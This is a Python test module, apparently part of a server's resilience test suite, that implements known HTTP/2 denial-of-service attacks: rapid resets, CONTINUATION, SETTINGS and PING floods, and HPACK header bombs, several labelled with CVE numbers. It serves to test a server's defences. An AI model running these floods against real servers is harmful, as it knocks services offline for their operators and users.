"""The known attacks on HTTP/2: resets, floods of frames, and headers."""

from __future__ import annotations

import struct
from collections.abc import Callable

from tests.wire.attack import (
    BATCH,
    CANCEL,
    CHECK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    STREAM,
    TRANSCRIBE,
    WINDOW_UPDATE,
    Over,
    attack,
    configuration,
    drained,
    many,
    reconnecting,
    recording,
)
from tests.wire.http2 import WINDOW_BYTES, Peer, headers_of, raw, settings
from tests.wire.node import HOSTILE

# ---- resets ---------------------------------------------------------------------------------------------------------


def resets(peer: Peer, headers: list[tuple[str, str]], *between: bytes) -> int:
    """Open and reset calls in one write."""
    sent = []
    for _ in range(BATCH):
        stream, opened = peer.opening(headers)
        sent.append(opened)
        sent += [raw(DATA, 0, stream, data) for data in between]
        sent.append(raw(RST_STREAM, 0, stream, CANCEL))
    peer.send(*sent)
    drained(peer)
    return BATCH


@attack
def rapid_resets(port: int, over: Over) -> int:
    """Calls without a key, reset at once (CVE-2023-44487)."""
    return reconnecting(port, over, lambda peer: resets(peer, headers_of(TRANSCRIBE)))


@attack
def rapid_resets_on_many_connections(port: int, over: Over) -> int:
    """The same on twelve connections, so that more calls wait than gRPC accepts by default."""
    with many(port, 12) as peers:
        n_inputs = 0
        while not over():
            n_inputs += sum(resets(peer, headers_of(TRANSCRIBE)) for peer in peers)
        return n_inputs


@attack
def rapid_resets_with_a_key(port: int, over: Over) -> int:
    """The same with a key and a whole request, so that work has begun."""
    return reconnecting(port, over, lambda peer: resets(peer, headers_of(TRANSCRIBE, key=HOSTILE), recording()))


@attack
def rapid_resets_of_streams(port: int, over: Over) -> int:
    """Streams that are reset when they have a session."""
    return reconnecting(port, over, lambda peer: resets(peer, headers_of(STREAM, key=HOSTILE), configuration()))


@attack
def rapid_resets_that_nobody_reads(port: int, over: Over) -> int:
    """The same without reading what the server answers."""

    def flood(peer: Peer) -> int:
        sent = []
        for _ in range(BATCH):
            stream, opened = peer.opening(headers_of(CHECK))
            sent += [opened, raw(RST_STREAM, 0, stream, CANCEL)]
        peer.socket.settimeout(0.2)
        peer.send(*sent)
        return BATCH

    return reconnecting(port, over, flood, receive_bytes=4096)


@attack
def resets_by_wrong_frames(port: int, over: Over) -> int:
    """Calls whose window the client breaks, so that the server resets them itself (CVE-2025-8671)."""

    def flood(peer: Peer) -> int:
        sent = []
        for _ in range(BATCH):
            stream, opened = peer.opening(headers_of(CHECK))
            sent += [opened, raw(WINDOW_UPDATE, 0, stream, struct.pack(">I", WINDOW_BYTES))]
        peer.send(*sent)
        drained(peer)
        return BATCH

    return reconnecting(port, over, flood)


# ---- floods of frames -----------------------------------------------------------------------------------------------


def frame_flood(data: bytes, *, reads: bool = True, n_frames: int = BATCH) -> Callable[[Peer], int]:
    block = data * n_frames

    def flood(peer: Peer) -> int:
        if not reads:
            peer.socket.settimeout(0.2)
        peer.send(block)
        if reads:
            drained(peer)
        return n_frames

    return flood


@attack
def continuations(port: int, over: Over) -> int:
    """Headers that never end (CVE-2024-27316)."""

    def flood(peer: Peer) -> int:
        stream, opened = peer.opening(headers_of(CHECK), flags=())
        header = b"\0\x06x-note\x0a0123456789"
        peer.send(opened, *(raw(CONTINUATION, 0, stream, header * 50) for _ in range(BATCH)))
        drained(peer)
        return BATCH

    return reconnecting(port, over, flood)


@attack
def empty_continuations(port: int, over: Over) -> int:
    """Headers that never end, in empty frames."""

    def flood(peer: Peer) -> int:
        if peer.next_stream == 1:
            peer.send(peer.opening(headers_of(CHECK), flags=())[1])
        peer.send(raw(CONTINUATION, 0, 1) * (4 * BATCH))
        drained(peer)
        return 4 * BATCH

    return reconnecting(port, over, flood)


@attack
def settings_floods(port: int, over: Over) -> int:
    """Settings that must all be acknowledged (CVE-2019-9515)."""
    return reconnecting(port, over, frame_flood(settings(INITIAL_WINDOW_SIZE=1000)))


@attack
def settings_that_nobody_reads(port: int, over: Over) -> int:
    """The same, and the acknowledgements are not read."""
    return reconnecting(port, over, frame_flood(settings(), reads=False), receive_bytes=4096)


@attack
def pings_that_nobody_reads(port: int, over: Over) -> int:
    """Pings whose answers are not read (CVE-2019-9512)."""
    return reconnecting(port, over, frame_flood(raw(PING, 0, 0, b"12345678"), reads=False), receive_bytes=4096)


@attack
def priorities(port: int, over: Over) -> int:
    """Changes of priority (CVE-2019-9513)."""
    return reconnecting(port, over, frame_flood(raw(PRIORITY, 0, 1, bytes(5))))


@attack
def window_updates(port: int, over: Over) -> int:
    """A window that opens by a byte at a time."""
    return reconnecting(port, over, frame_flood(raw(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))))


@attack
def unknown_frames(port: int, over: Over) -> int:
    """Frames of types that nobody knows, which must be ignored."""
    return reconnecting(port, over, frame_flood(raw(0xBE, 0, 0, bytes(10))))


@attack
def empty_data_frames(port: int, over: Over) -> int:
    """DATA without data in an open call (CVE-2019-9518)."""

    def flood(peer: Peer) -> int:
        if peer.next_stream == 1:
            peer.call(headers_of(STREAM, key=HOSTILE), configuration(), end=False)
        peer.send(raw(DATA, 0, 1) * BATCH)
        drained(peer)
        return BATCH

    return reconnecting(port, over, flood)


# ---- headers --------------------------------------------------------------------------------------------------------


@attack
def header_bombs(port: int, over: Over) -> int:
    """A header of four kilobytes in the compression table, named a thousand times by a byte each."""

    def flood(peer: Peer) -> int:
        stream, opened = peer.opening(headers_of(CHECK), flags=())
        big = b"\x40\x01b" + b"\x7f" + _integer(3900 - 127) + b"x" * 3900
        peer.send(opened, raw(CONTINUATION, 0, stream, big), raw(CONTINUATION, END_HEADERS, stream, b"\xbe" * 16_000))
        drained(peer)
        return 1

    return reconnecting(port, over, flood)


@attack
def table_resizes(port: int, over: Over) -> int:
    """Headers that change the size of the compression table again and again."""

    def flood(peer: Peer) -> int:
        stream = peer.next_stream
        peer.next_stream += 2
        peer.send(*(raw(HEADERS, END_HEADERS | END_STREAM, stream + 2 * i, b"\x20\x3f\xe1\x1f") for i in range(50)))
        peer.next_stream += 100
        drained(peer)
        return 50

    return reconnecting(port, over, flood)


def _integer(value: int) -> bytes:
    """The rest of an integer of HPACK, after its prefix."""
    out = b""
    while value >= 128:
        out += bytes([value % 128 + 128])
        value //= 128
    return out + bytes([value])
